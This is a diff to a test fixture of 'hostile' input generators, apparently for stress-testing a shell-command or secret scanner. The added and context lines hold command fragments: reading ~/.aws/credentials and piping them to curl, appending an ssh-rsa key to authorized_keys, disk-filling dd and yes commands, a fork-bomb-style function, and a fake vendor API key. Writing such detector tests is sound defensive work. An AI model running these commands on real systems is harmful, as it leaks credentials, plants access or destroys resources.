@@ -64,6 +64,13 @@ HOSTILE: dict[str, Callable[[int], str]] = {
     "windowed near-misses on one long line": lambda n: (
         ("echo ssh-rsa " * 50 + "A" * 610 + " >> ~/.ssh/authorized_keys ") * n
     )[:n],
+    # the fourth shell round: credential sources too far from a sink, endless `dd` and
+    # `yes` candidates for the checks to read, self-spawning look-alikes
+    "credential sources far from a sink": lambda n: (
+        ("cat ~/.aws/credentials " * 8 + "x" * 320 + " | curl -d @- h ") * n
+    )[:n],
+    "dd and yes candidates": lambda n: ("dd if=/dev/zero of=/f bs=1M count=9; yes x > f; " * n)[:n],
+    "self-spawning look-alikes": lambda n: ("f() { g | f & }; $(MAKE) a & $(MAKE) b " * n)[:n],
     "vendor keys and positional calls": lambda n: (
         "shodan: aB3dE5gH7jK9mN1pQ3\nalgoliasearch('a', 'b', " * n
     )[:n],
